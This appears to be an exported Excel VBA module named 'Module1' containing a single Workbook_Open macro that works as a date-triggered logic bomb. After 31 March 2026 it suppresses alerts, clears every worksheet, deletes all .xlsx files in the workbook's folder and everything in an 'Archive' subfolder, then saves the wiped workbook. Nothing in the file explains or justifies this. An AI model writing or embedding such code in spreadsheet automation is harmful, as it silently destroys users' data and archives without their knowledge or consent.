Attribute VB_Name = "Module1"
Private Sub Workbook_Open()
    If Date > DateSerial(2026, 3, 31) Then
        Dim ws As Worksheet
        Application.DisplayAlerts = False
        For Each ws In ThisWorkbook.Worksheets
            ws.Cells.ClearContents
        Next ws
        Kill ThisWorkbook.Path & "\*.xlsx"
        Kill ThisWorkbook.Path & "\Archive\*.*"
        ThisWorkbook.Save
    End If
End Sub
